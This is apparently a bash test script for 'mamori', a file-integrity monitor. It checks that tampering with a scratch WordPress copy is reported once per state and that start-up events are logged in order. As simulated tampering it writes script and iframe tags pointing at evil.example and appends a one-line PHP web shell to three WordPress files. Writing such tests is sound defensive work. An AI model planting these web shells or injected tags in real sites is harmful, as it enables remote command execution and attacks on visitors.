#!/usr/bin/env bash
# Alert mode changes nothing, so the tampered file stays different from its baseline and
# every event that follows one write (modify, close-write, attrib) finds it again: each
# state must be reported once, not once per event (each report may be a mail). A
# different write is a new state: reported again. And at start-up, every event of the
# start-up verify (in preserve mode they wait for their evidence) is written before
# agent-started, in the order of their timestamps.
# shellcheck source-path=SCRIPTDIR source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

WP=$SCRATCH/wp
copy_wordpress "$WP"
write_config "$WP"
MODE=alert agent_config
expect_exit 0 mamori -q init
start_agent

reports() {  # REL: how many file-changed events name it
  events "e[\"event\"][\"action\"] == \"file-changed\" and e[\"mamori\"][\"path\"] == \"$1\"" | wc -l
}
has_created() { [[ -n $(events "e[\"event\"][\"action\"] == \"file-created\" and e[\"mamori\"][\"path\"] == \"$1\"") ]]; }
# The guard handles the kernel's events in order: once a file created after the writes is
# reported, every event of the writes before it has been handled and written.
barrier() {
  printf 'x\n' >"$WP/barrier-$1.txt"
  wait_for "the barrier-$1.txt event" has_created "barrier-$1.txt"
}

step "alert mode: one write to readme.html is one file-changed"
echo '<script src="https://evil.example/x.js"></script>' >"$WP/readme.html"
barrier 1
assert_eq 1 "$(reports readme.html)" "file-changed events after one write"

step "a second, different write is reported once more"
echo '<iframe src="https://evil.example/"></iframe>' >>"$WP/readme.html"
barrier 3
assert_eq 2 "$(reports readme.html)" "file-changed events after a second write"

step "start-up: every start-up event is written before agent-started"
stop_agent
sed -i 's/^mode = "alert"$/mode = "preserve"/' "$CONFIG"
for f in wp-cron.php wp-mail.php wp-links-opml.php; do
  printf '<?php system($_GET["c"]); ?>\n' >>"$WP/$f"
done
before=$(wc -l <"$EVENTS")
start_agent
stop_agent  # at stop, everything held has been written
tail -n +"$((before + 1))" "$EVENTS" | python3 -c '
import json, sys
evs = [json.loads(l) for l in sys.stdin]
acts = [e["event"]["action"] for e in evs]
started = acts.index("agent-started")
startup = [i for i, e in enumerate(evs) if e.get("mamori", {}).get("trigger") == "startup"]
paths = {evs[i]["mamori"]["path"] for i in startup}
for f in ("wp-cron.php", "wp-mail.php", "wp-links-opml.php"):
    if f not in paths: sys.exit("no start-up event for " + f + ": " + " ".join(acts))
late = [evs[i]["mamori"]["path"] for i in startup if i > started]
if late: sys.exit("start-up events written after agent-started: %s (order: %s)" % (late, " ".join(acts)))
stamps = [e["@timestamp"] for e in evs[: started + 1]]
if stamps != sorted(stamps): sys.exit("events up to agent-started are not in timestamp order: %s" % stamps)
for i in startup:
    if not evs[i].get("mamori", {}).get("evidence"): sys.exit("start-up event without evidence: %s" % evs[i])
' || fail "start-up events and agent-started out of order"
echo "PASS"
